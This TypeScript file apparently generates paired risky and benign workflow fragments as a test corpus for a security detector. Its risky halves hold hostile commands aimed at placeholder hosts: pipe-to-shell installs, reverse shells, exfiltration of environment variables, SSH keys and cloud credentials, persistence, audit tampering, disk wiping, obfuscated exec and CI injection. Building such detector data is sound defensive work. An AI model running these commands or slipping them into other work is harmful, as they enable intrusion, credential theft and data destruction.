// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the expressions belong to the packages, not to this program
import type { WpkHandler, WpkTrigger } from '../../../schemas/wpk.ts'
import type { Random } from './random.ts'

/** What one side of a pair adds to a package. */
export type Fragment = { handlers?: WpkHandler[]; triggers?: WpkTrigger[]; auto?: boolean }

/** A family makes pairs: the same thing done in a risky and in a sound way. All addresses are reserved for documentation. */
export type Family = { name: string; pair: (random: Random) => { risky: Fragment; benign: Fragment } }

const ALPHANUMERIC = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'

export const shell = (command: string, more: Record<string, unknown> = {}): WpkHandler => ({
  name: 'step',
  type: 'shell',
  config: { command, ...more },
  timeout: '300s',
  retry: { max_attempts: 1, backoff: '10s' },
})
export const manifest = (value: unknown): WpkHandler => ({
  name: 'apply',
  type: 'k8s',
  config: { action: 'apply', manifest: value },
  timeout: '120s',
  retry: { max_attempts: 2, backoff: '10s' },
})
export const api = (config: Record<string, unknown>): WpkHandler => ({
  name: 'call',
  type: 'api',
  config: { method: 'POST', ...config },
  timeout: '30s',
  retry: { max_attempts: 3, backoff: '5s' },
})
const action = (uses: string, more: Record<string, unknown> = {}): WpkHandler => ({
  name: 'action',
  type: 'shell',
  config: { uses, runner: 'ubuntu-latest', ...more },
  timeout: '600s',
  retry: { max_attempts: 1, backoff: '10s' },
})
const pod = (spec: Record<string, unknown>, container: Record<string, unknown> = {}): WpkHandler =>
  manifest({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'worker' },
    spec: { ...spec, containers: [{ name: 'worker', image: 'registry.example.net/worker:1.4', ...container }] },
  })
const role = (rules: unknown): WpkHandler =>
  manifest({
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'Role',
    metadata: { name: 'operator', namespace: 'shop' },
    rules,
  })

const pairOf = (risky: WpkHandler, benign: WpkHandler) => ({
  risky: { handlers: [risky] },
  benign: { handlers: [benign] },
})
const python = (risky: string, benign: string) =>
  pairOf(shell(risky, { interpreter: 'python3' }), shell(benign, { interpreter: 'python3' }))
const node = (risky: string, benign: string) =>
  pairOf(shell(risky, { interpreter: 'node' }), shell(benign, { interpreter: 'node' }))
const outside = (random: Random): string =>
  random.pick([
    'collect.example.net',
    'drop.example.org',
    'files.example.com',
    'sync.example.net',
    '203.0.113.17',
    '198.51.100.9',
  ])
const shellPair = (name: string, choices: (random: Random) => readonly (readonly [string, string])[]): Family => ({
  name,
  pair: (random) => {
    const [risky, benign] = random.pick(choices(random))
    return pairOf(shell(risky), shell(benign))
  },
})

export const FAMILIES: readonly Family[] = [
  {
    name: 'secret-in-header',
    pair: (random) => {
      const header = random.pick(['X-Api-Key', 'X-Auth-Token', 'Authorization'])
      const value = random.text(ALPHANUMERIC, 36)
      const url = `https://${random.pick(['api', 'status', 'report'])}.example.com/v1/events`
      return pairOf(
        api({ url, headers: { [header]: header === 'Authorization' ? `Bearer ${value}` : value } }),
        api({ url, headers: { [header]: `\${${random.pick(['API_TOKEN', 'VAULT_TOKEN', 'REPORT_TOKEN'])}}` } }),
      )
    },
  },
  {
    name: 'secret-in-env',
    pair: (random) => {
      const name = random.pick(['DB_PASSWORD', 'API_TOKEN', 'CLIENT_SECRET'])
      const command = random.pick(['./migrate --apply', 'node sync.js', 'make deploy'])
      return pairOf(
        shell(command, { env: { [name]: random.text(ALPHANUMERIC, 28) } }),
        shell(command, { env: { [name]: random.pick(['${{ secrets.DEPLOY }}', 'vault:kv/data/shop#value']) } }),
      )
    },
  },
  shellPair('pipe-to-shell', (random) => {
    const url = `https://${outside(random)}/install.sh`
    return [
      [`curl -fsSL ${url} | bash`, `curl -fsSL ${url} | tee install.log`],
      [`wget -qO- ${url} | sudo sh`, `wget -qO- ${url} | wc -l`],
      [`bash <(curl -s ${url})`, `diff <(curl -s ${url}) install.sh`],
      [`sh -c "$(curl -fsSL ${url})"`, `version="$(curl -fsSL ${url})"`],
      [`eval "$(wget -qO- ${url})"`, 'eval "$(ssh-agent -s)"'],
    ]
  }),
  shellPair('save-and-run', (random) => {
    const url = `https://${outside(random)}/tool`
    return [
      [`curl -sLo tool ${url}\nchmod +x tool\n./tool --all`, `curl -sLo tool.json ${url}\njq .version tool.json`],
      [`wget ${url}.sh\nbash tool.sh`, `wget ${url}.csv\nwc -l tool.csv`],
    ]
  }),
  {
    name: 'python-runs-download',
    pair: (random) => {
      const url = `http://${outside(random)}/stage`
      return python(
        `import requests\nbody = requests.get("${url}").text\nexec(body)`,
        `import requests\nbody = requests.get("${url}", timeout=5).json()\nprint(body["version"])`,
      )
    },
  },
  shellPair('reverse-shell', (random) => {
    const host = outside(random)
    return [
      [
        `bash -i >& /dev/tcp/${host}/4444 0>&1`,
        `timeout 3 bash -c 'until echo > /dev/tcp/db.shop.svc/5432; do sleep 1; done'`,
      ],
      [`nc -e /bin/sh ${host} 9001`, 'nc -z db.shop.svc 5432'],
      [
        `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${host} 9001 > /tmp/f`,
        'mkfifo /tmp/f; gzip < /tmp/f > out.gz & pg_restore -l dump > /tmp/f',
      ],
      [`socat TCP:${host}:443 EXEC:/bin/bash`, 'socat -u FILE:report.csv TCP:sink.shop.svc:9000'],
    ]
  }),
  {
    name: 'python-reverse-shell',
    pair: (random) =>
      python(
        `import socket, os, pty\ns = socket.socket()\ns.connect(("${outside(random)}", 4242))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")`,
        'import socket\ns = socket.socket()\ns.settimeout(2)\ns.connect(("db.shop.svc", 5432))\nprint("open")',
      ),
  },
  {
    name: 'privileged',
    pair: (random) =>
      random.pick([
        () =>
          pairOf(
            pod({}, { securityContext: { privileged: true } }),
            pod({}, { securityContext: { privileged: false } }),
          ),
        () =>
          pairOf(
            pod({}, { securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }),
            pod({}, { securityContext: { capabilities: { drop: ['ALL'], add: ['NET_BIND_SERVICE'] } } }),
          ),
        () =>
          pairOf(
            shell('docker run --privileged -v "$PWD:/w" tools:2.1 scan'),
            shell('docker run --read-only -v "$PWD:/w" tools:2.1 scan'),
          ),
      ])(),
  },
  {
    name: 'host-access',
    pair: (random) =>
      random.pick([
        () => pairOf(pod({ hostPID: true }), pod({ hostPID: false })),
        () => pairOf(pod({ hostNetwork: true }), pod({ dnsPolicy: 'ClusterFirst' })),
        () =>
          pairOf(
            pod({ volumes: [{ name: 'v', hostPath: { path: '/' } }] }),
            pod({ volumes: [{ name: 'v', emptyDir: {} }] }),
          ),
        () =>
          pairOf(
            pod({ volumes: [{ name: 's', hostPath: { path: '/var/run/docker.sock' } }] }),
            pod({ volumes: [{ name: 's', configMap: { name: 'settings' } }] }),
          ),
      ])(),
  },
  {
    name: 'access-rights',
    pair: (random) => {
      const sound = role([{ apiGroups: [''], resources: ['pods', 'pods/log'], verbs: ['get', 'list'] }])
      return pairOf(
        role([
          random.pick([
            { apiGroups: ['*'], resources: ['*'], verbs: ['*'] },
            { apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list', 'watch'] },
            { apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['bind', 'escalate'] },
          ]),
        ]),
        sound,
      )
    },
  },
  {
    name: 'powerful-binding',
    pair: (random) => {
      const binding = (name: string) =>
        manifest({
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRoleBinding',
          metadata: { name: 'operator' },
          roleRef: { kind: 'ClusterRole', name },
          subjects: [{ kind: 'ServiceAccount', name: 'operator' }],
        })
      return pairOf(binding('cluster-admin'), binding(random.pick(['view', 'shop-reader'])))
    },
  },
  shellPair('exfiltration', (random) => {
    const host = outside(random)
    return [
      [
        `printenv | curl -s -X POST --data-binary @- https://${host}/in`,
        `uptime | curl -s -X POST --data-binary @- https://status.shop.internal/in`,
      ],
      [
        `tar czf /tmp/k.tgz ~/.ssh/\ncurl -T /tmp/k.tgz https://${host}/`,
        `tar czf /tmp/k.tgz ./reports\naws s3 cp /tmp/k.tgz s3://shop-reports/`,
      ],
      [`dig "$(base64 -w0 secret.txt).${random.pick(['example.net', 'example.org'])}"`, 'dig +short shop.example.net'],
      [`kubectl get secret db -o json | nc ${host} 8081`, 'kubectl get pods -o json | jq .items'],
      [
        `cat ~/.aws/credentials | base64 | curl -d @- http://${host}/x`,
        `cat report.json | curl -d @- http://sink.shop.svc/x`,
      ],
    ]
  }),
  {
    name: 'python-exfiltration',
    pair: (random) => {
      const host = outside(random)
      const body = random.pick(['json=dict(os.environ)', 'data=open("/etc/passwd").read()'])
      return python(
        `import os, requests\nrequests.post("https://${host}/c", ${body})`,
        'import os, requests\nrequests.post("http://sink.shop.svc/c", json={"build": os.environ["BUILD_ID"]})',
      )
    },
  },
  {
    name: 'node-exfiltration',
    pair: (random) =>
      node(
        `fetch("https://${outside(random)}/c", { method: "POST", body: JSON.stringify(process.env) })`,
        'fetch("http://sink.shop.svc/c", { method: "POST", body: JSON.stringify({ ok: true, node: process.version }) })',
      ),
  },
  {
    name: 'post-to-address',
    pair: (random) =>
      python(
        `import requests\nrequests.post("http://203.0.113.${random.pick([5, 44, 81])}/beacon", data=payload)`,
        'import requests\nrequests.post("https://reports.shop.internal/beacon", data=payload)',
      ),
  },
  {
    name: 'throwaway-host',
    pair: (random) => {
      const host = random.pick(['webhook.site', 'transfer.sh', 'pastebin.com', 'abc.ngrok.io'])
      return pairOf(
        shell(`curl -F file=@result.txt https://${host}/x`),
        shell('curl -F file=@result.txt https://reports.shop.internal/x'),
      )
    },
  },
  shellPair('event-text-in-command', (random) => {
    const field = random.pick(['issue.title', 'pull_request.body', 'comment.body', 'head_commit.message'])
    return [
      [`echo "\${{ github.event.${field} }}" > title.txt`, 'echo "${{ github.event.issue.number }}" > number.txt'],
      ['git checkout ${{ github.head_ref }}', 'git checkout ${{ github.sha }}'],
      ['notify "${event.message}"', 'notify "$MESSAGE"'],
      ['./handle {{ event.body.name }}', './handle --id {{ event.id }}'],
    ]
  }),
  {
    name: 'submission-runs',
    pair: (random) => {
      const build = shell(random.pick(['npm install && npm test', 'make test', 'pip install -r requirements.txt']))
      const webhook = (event: string): WpkTrigger => ({ type: 'webhook', config: { source: 'github', event } })
      const checkout = (ref: string): WpkHandler => action('actions/checkout@v4', { with: { ref } })
      const trusted = webhook(random.pick(['pull_request_target', 'workflow_run']))
      const submitted = checkout('${{ github.event.pull_request.head.sha }}')
      // The trigger with trusted code, the submitted code without the trigger's rights, or a step that only labels.
      const benign = random.pick<Fragment>([
        { triggers: [trusted], handlers: [checkout('${{ github.sha }}'), build] },
        { triggers: [webhook('pull_request')], handlers: [submitted, build] },
        { triggers: [trusted], handlers: [action('actions/labeler@v5')] },
      ])
      return { risky: { triggers: [trusted], handlers: [submitted, build] }, benign }
    },
  },
  {
    name: 'shared-runner',
    pair: (random) => {
      const event = random.pick(['pull_request_target', 'issue_comment'])
      const triggers: WpkTrigger[] = [{ type: 'webhook', config: { source: 'github', event } }]
      const command = random.pick(['make check', 'npm test', './verify.sh'])
      const on = (runner: string): Fragment => ({ triggers, handlers: [shell(command, { runner })] })
      return { risky: on('self-hosted'), benign: on('ubuntu-latest') }
    },
  },
  shellPair('obfuscated-shell', (random) => {
    const blob = Buffer.from(`echo ${random.text(ALPHANUMERIC, 130)}`).toString('base64')
    return [
      [`echo ${blob} | base64 -d | sh`, 'echo "$KUBECONFIG_B64" | base64 -d > kubeconfig'],
      [`eval "$(printf '${'\\x65\\x63\\x68\\x6f'.repeat(4)}')"`, "printf 'name\\tvalue\\n' > table.tsv"],
      [`c$@at\${IFS}/tmp/x$(echo ${blob}|base64 --decode|bash)`, 'cat /tmp/x'],
    ]
  }),
  {
    name: 'obfuscated-code',
    pair: (random) => {
      const blob = Buffer.from(random.text(ALPHANUMERIC, 150)).toString('base64')
      const blank = ' '.repeat(150)
      return random.pick([
        () =>
          python(
            `import base64\nexec(base64.b64decode("${blob}"))`,
            'import base64\nopen("logo.png", "wb").write(base64.b64decode(image))',
          ),
        () => node(`eval(atob("${blob}"))`, 'const name = JSON.parse(text).name\nconsole.log(name)'),
        () =>
          node(
            `const _0x1a2b = _0x3c4d; eval(String.fromCharCode(${Array.from({ length: 35 }, () => 100 + Math.floor(random.next() * 20)).join(', ')}))`,
            'const total = [104, 101, 108].reduce((a, b) => a + b, 0)\nconsole.log(total)',
          ),
        () => python(`import os\nx = 1${blank}; exec(bytes.fromhex(h).decode())`, 'import os\nx = 1\nprint(x)'),
        () =>
          python(
            'import builtins\n_____ = getattr(builtins, n)\n_____(code)\nexec(compile(code, "m", "exec"))',
            'import json\nvalue = getattr(settings, "name")\nprint(json.dumps(value))',
          ),
      ])()
    },
  },
  shellPair('sensitive-read', () => [
    ['cat /etc/shadow > /tmp/out', 'cat /etc/os-release > /tmp/out'],
    ['cp ~/.ssh/id_rsa /tmp/k', 'ssh-keyscan git.example.net >> ~/.ssh/known_hosts'],
    [
      'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'curl -s http://localhost:8080/health',
    ],
    ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'cat /var/run/app/app.pid'],
    ['cat /proc/1/environ | tr "\\0" "\\n"', 'cat /proc/cpuinfo | head'],
  ]),
  {
    name: 'sensitive-read-code',
    pair: () =>
      python(
        'import os\nkeys = open(os.path.expanduser("~/.aws/credentials")).read()\nprint(keys)',
        'import os\nlines = open(os.path.expanduser("~/report.txt")).read()\nprint(lines)',
      ),
  },
  shellPair('secret-to-output', () => [
    ['echo "key: $PRIVATE_KEY"', 'echo "$REGISTRY_TOKEN" | docker login --password-stdin registry.example.net'],
    ['echo "using $DB_PASSWORD"', 'echo "using $DB_HOST"'],
    ['set -x\n./login --token "$API_TOKEN"', 'set -e\n./login --token-file token'],
  ]),
  {
    name: 'all-secrets',
    pair: (random) => {
      const command = random.pick(['./deploy.sh', 'node run.js', 'make release'])
      return pairOf(
        shell(command, { env: { SECRETS: '${{ toJSON(secrets) }}' } }),
        shell(command, { env: { DEPLOY_TOKEN: '${{ secrets.DEPLOY_TOKEN }}' } }),
      )
    },
  },
  shellPair('environment-dump', () => [
    ['printenv > out.txt\ncat out.txt', 'printf "%s" "$BUILD_ID" > out.txt\ncat out.txt'],
    ['env | sort', 'env MODE=ci make test'],
  ]),
  shellPair('persistence', () => [
    ['echo "* * * * * /tmp/.x" >> /etc/cron.d/x', 'crontab -l'],
    ['echo "$KEY" >> ~/.ssh/authorized_keys', 'ls -l ~/.ssh/known_hosts'],
    ['echo "/tmp/.x &" >> ~/.bashrc', 'echo "PATH=$PATH:/opt/bin" >> build.env'],
    ['cp x.service /etc/systemd/system/\nsystemctl enable x', 'systemctl status nginx'],
  ]),
  {
    name: 'persistence-code',
    pair: () =>
      python(
        'import os\nrc = os.path.expanduser("~/.bashrc")\nopen(rc, "a").write(line)',
        'import os\nrc = os.path.expanduser("~/notes.txt")\nopen(rc, "a").write(line)',
      ),
  },
  shellPair('tampering', () => [
    ['setenforce 0', 'getenforce'],
    ['iptables -F', 'iptables -L'],
    ['systemctl stop auditd', 'systemctl restart nginx'],
    ['unset HISTFILE; history -c', 'export HISTSIZE=1000'],
  ]),
  shellPair('destruction', () => [
    ['dd if=/dev/zero of=/dev/sda bs=1M', 'dd if=/dev/zero of=./disk.img bs=1M count=8'],
    ['rm -rf /', 'rm -rf ./build'],
    ['kubectl delete namespace shop', 'kubectl delete pod worker-1 -n shop'],
    ['mkfs.ext4 /dev/nvme0n1', 'df -h /data'],
  ]),
  shellPair('mining', () => [
    ['./xmrig -o stratum+tcp://pool.example.org:3333 -u w', './loadtest --rate 50 --duration 1m http://web.shop.svc'],
    [':(){ :|:& };:', 'for i in 1 2 3; do sleep 1 & done; wait'],
  ]),
  {
    name: 'surveillance',
    pair: (random) =>
      random.pick([
        () =>
          python(
            'from PIL import ImageGrab\nImageGrab.grab().save("s.png")',
            'from PIL import Image\nImage.open("in.png").save("s.png")',
          ),
        () =>
          python(
            'import pyperclip\ntext = pyperclip.paste()\npyperclip.copy(address)',
            'import csv\ntext = next(csv.reader(source))\nprint(text)',
          ),
      ])(),
  },
  {
    name: 'machine-survey',
    pair: () =>
      python(
        'import getpass, socket, subprocess\nuser = getpass.getuser()\nhost = socket.gethostname()\nsubprocess.run(["whoami"])',
        'import subprocess\nsubprocess.run(["ls", "-l"])',
      ),
  },
  {
    name: 'detached-process',
    pair: () =>
      node(
        'const { spawn } = require("child_process")\nspawn("node", ["svc.js"], { detached: true, stdio: "ignore" }).unref()',
        'const { spawn } = require("child_process")\nspawn("node", ["svc.js"], { stdio: "inherit" })',
      ),
  },
  shellPair('unverified-transport', () => [
    [
      'curl -k -u ci:$TOKEN https://files.example.com/a.tgz -o a.tgz',
      'curl --fail -u ci:$TOKEN https://files.example.com/a.tgz -o a.tgz',
    ],
    ['scp -o StrictHostKeyChecking=no -i key app.tgz deploy@prod:/srv', 'scp -i key app.tgz deploy@prod:/srv'],
    ['wget --no-check-certificate http://files.example.com/a.tgz', 'wget https://files.example.com/a.tgz'],
  ]),
  {
    name: 'unsafe-switch',
    pair: () =>
      pairOf(
        shell('echo Hello', { env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: true } }),
        shell('echo Hello', { env: { NODE_ENV: 'test' } }),
      ),
  },
  { name: 'auto-run', pair: () => ({ risky: { auto: true }, benign: { auto: false } }) },
]
